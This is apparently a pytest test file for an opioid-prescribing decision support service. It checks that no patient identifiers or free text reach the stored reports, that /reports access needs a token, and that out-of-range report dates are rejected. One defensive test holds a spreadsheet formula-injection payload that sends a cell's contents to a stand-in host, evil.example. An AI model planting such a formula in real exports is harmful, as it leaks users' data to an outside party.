"""What the report records holds no patient, no name and no free text; recording never costs
a response; /reports needs its own token in production."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from fastapi.testclient import TestClient

from app.cli import main
from app.db import migrate
from app.main import create_app
from app.playground import load_fixture_request
from app.settings import Settings
from tests.app.live_server import EXAMPLE_TRUST_FILE
from tests.app.reports.scenario import OUTSIDE

NAME = "Wilhelmina Zwartkop"
BSN = "999911120"
PATIENT_ID = "patient-4711-private"
FREE_TEXT = "pijn na val op de trap bij de buren"
COMMENT = "mevr. Zwartkop wil liever 14 dagen"
REPORTS_TOKEN = "reports-token-of-its-own-0123456789"


def _request_full_of_patient_data() -> tuple[dict[str, Any], str]:
    request, info = load_fixture_request(OUTSIDE, today=date.today())
    request["context"]["patientId"] = PATIENT_ID
    patient = request["prefetch"]["patient"]
    patient.update(
        id=PATIENT_ID,
        name=[{"text": NAME}],
        identifier=[{"system": "http://fhir.nl/fhir/NamingSystem/bsn", "value": BSN}],
    )
    draft = request["context"]["draftOrders"]["entry"][0]["resource"]
    draft["subject"] = {"reference": f"Patient/{PATIENT_ID}", "display": NAME}
    draft["reasonCode"] = [{"text": FREE_TEXT}]
    draft["note"] = [{"text": FREE_TEXT}]
    return request, info.service


def _dump(database: Path, table: str) -> list[dict[str, Any]]:
    connection = sqlite3.connect(database)
    connection.row_factory = sqlite3.Row
    try:
        return [dict(row) for row in connection.execute(f"SELECT * FROM {table}")]
    finally:
        connection.close()


def test_no_patient_id_name_bsn_or_free_text_is_recorded(tmp_path: Path) -> None:
    database = tmp_path / "service.sqlite3"
    url = f"sqlite+aiosqlite:///{database}"
    migrate(url)
    request, service = _request_full_of_patient_data()
    requester = request["context"]["userId"]
    with TestClient(create_app(Settings(database_url=url, trusted_clients=None))) as client:
        body = client.post(f"/cds-services/{service}", json=request).json()
        card = body["cards"][0]
        client.post(
            f"/cds-services/{service}/feedback",
            json={
                "card": card["uuid"],
                "outcome": "overridden",
                "overrideReason": {"reason": card["overrideReasons"][0], "userComment": COMMENT},
                "outcomeTimestamp": "2026-12-01T10:00:00Z",
            },
        )

    orders = _dump(database, "report_orders")
    cards = _dump(database, "report_cards")
    feedback = _dump(database, "feedback")
    assert len(orders) == 1 and cards and len(feedback) == 1
    raw = json.dumps([orders, cards, feedback], default=str, ensure_ascii=False)
    for secret in (PATIENT_ID, NAME, "Zwartkop", BSN, FREE_TEXT, "trap", requester, "devries"):
        assert secret not in raw
    (order,) = orders
    assert len(order["prescriber_pseudonym"]) == 64
    assert order["practice_agb"] == "01999010"
    assert (order["substance"], order["release_type"], order["duration_days"]) == (
        "oxycodone",
        "long-acting",
        14,
    )
    assert {card["rule_id"] for card in cards} >= {"gp-duration-limit"}
    assert feedback[0]["has_user_comment"] == 1


def test_a_database_without_the_tables_costs_no_response(sqlite_url: str) -> None:
    # Never migrated: every insert of the writer fails, as with a database that is down.
    request, info = load_fixture_request(OUTSIDE, today=date.today())
    service = info.service
    app = create_app(Settings(database_url=sqlite_url, trusted_clients=None))
    with TestClient(app) as client:
        responses = [client.post(f"/cds-services/{service}", json=request) for _ in range(3)]
    assert [response.status_code for response in responses] == [200, 200, 200]
    assert all(response.json()["cards"] for response in responses)
    # Kept in the journal for when the database is there (counted and logged), not dropped.
    assert (app.state.cds.audit.backlog, app.state.cds.audit.dropped) == (3, 0)


@pytest.fixture
def production(tmp_path: Path, sqlite_url: str) -> Settings:
    migrate(sqlite_url)
    trust = tmp_path / "trusted-clients.yaml"
    trust.write_text(yaml.safe_dump(EXAMPLE_TRUST_FILE), encoding="utf-8")
    return Settings(
        database_url=sqlite_url,
        environment="production",
        audit_secret="a-production-secret-of-32-chars!",
        trusted_clients=trust,
        reports_token=REPORTS_TOKEN,
    )


def test_production_opens_reports_only_with_the_reports_token(production: Settings) -> None:
    with TestClient(create_app(production)) as client:
        missing = client.get("/reports")
        wrong = client.get("/reports", headers={"Authorization": "Bearer not-the-token"})
        basic = client.get("/reports", headers={"Authorization": f"Basic {REPORTS_TOKEN}"})
        right = client.get("/reports", headers={"Authorization": f"Bearer {REPORTS_TOKEN}"})

    assert [missing.status_code, wrong.status_code, basic.status_code] == [401, 401, 401]
    assert missing.headers["www-authenticate"].startswith("Bearer")
    assert right.status_code == 200
    assert right.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in right.headers["content-security-policy"]
    assert "Opioid prescribing against the agreements" in right.text


def test_production_without_a_reports_token_refuses_everyone(production: Settings) -> None:
    settings = production.model_copy(update={"reports_token": None})
    with TestClient(create_app(settings)) as client:
        assert client.get("/reports").status_code == 401
        response = client.get("/reports", headers={"Authorization": "Bearer anything-at-all"})
        assert response.status_code == 401


def test_development_serves_reports_open_unless_a_token_is_set(sqlite_url: str) -> None:
    migrate(sqlite_url)
    open_settings = Settings(database_url=sqlite_url, trusted_clients=None)
    with TestClient(create_app(open_settings)) as client:
        assert client.get("/reports").status_code == 200
        assert client.get("/reports?since=2026-12-02&until=2026-12-01").status_code == 400
        assert client.get("/reports?practice=Jansen").status_code == 400
    closed = open_settings.model_copy(update={"reports_token": REPORTS_TOKEN})
    with TestClient(create_app(closed)) as client:
        assert client.get("/reports").status_code == 401


def test_a_short_reports_token_is_refused() -> None:
    with pytest.raises(ValueError, match=r"reports_token\n.*at least 16 characters"):
        Settings(reports_token="short")


@pytest.mark.parametrize(
    "query",
    [
        "until=9999-12-31",
        "baseline_until=9999-12-31",
        "since=0001-01-01&until=9999-12-30",
        "since=0001-01-01",
        "since=1999-12-31",
        "baseline_until=2100-01-01",
    ],
)
def test_dates_out_of_range_are_a_bad_request_not_a_server_error(
    sqlite_url: str, query: str
) -> None:
    """9999-12-31 overflowed the day arithmetic (500); 0001-01-01 built a 4 MB page with a
    row per month for 2,000 years."""
    migrate(sqlite_url)
    with TestClient(create_app(Settings(database_url=sqlite_url, trusted_clients=None))) as client:
        response = client.get(f"/reports?{query}")
    assert response.status_code == 400
    assert "between 2000-01-01 and 2099-12-31" in response.text


def test_the_widest_period_allowed_is_answered(sqlite_url: str) -> None:
    migrate(sqlite_url)
    with TestClient(create_app(Settings(database_url=sqlite_url, trusted_clients=None))) as client:
        response = client.get(
            "/reports?since=2000-01-01&until=2099-12-31&baseline_until=2099-12-31"
        )
    assert response.status_code == 200
    assert "2099-12" in response.text


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("fmt", ["csv", "html", "json"])
def test_an_override_reason_code_made_up_by_the_client_does_not_reach_the_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    """The feedback's reason code is whatever the client posts (up to 100 characters): free
    text about the patient, or a formula a spreadsheet would run. The report names only the
    cards' own reason codes."""
    database = tmp_path / "service.sqlite3"
    url = f"sqlite+aiosqlite:///{database}"
    migrate(url)
    request, service = _request_full_of_patient_data()
    with TestClient(create_app(Settings(database_url=url, trusted_clients=None))) as client:
        card = client.post(f"/cds-services/{service}", json=request).json()["cards"][0]
        offered = card["overrideReasons"][0]
        for n, code in enumerate([offered["code"], COMMENT, FORMULA, "-1+1"]):
            reason = {"system": offered["system"], "code": code}
            posted = client.post(
                f"/cds-services/{service}/feedback",
                json={
                    "card": card["uuid"],
                    "outcome": "overridden",
                    "overrideReason": {"reason": reason},
                    "outcomeTimestamp": f"2026-12-01T10:00:0{n}Z",
                },
            )
            assert posted.status_code == 200

    monkeypatch.setenv("OPIOID_CDS_DATABASE_URL", url)
    output = tmp_path / f"report.{fmt}"
    assert main(["report", "--format", fmt, "-o", str(output)]) == 0
    text = output.read_text(encoding="utf-8")
    assert offered["code"] in text
    for leaked in ("Zwartkop", "14 dagen", "HYPERLINK", "evil.example", "-1+1"):
        assert leaked not in text
    if fmt == "csv":
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
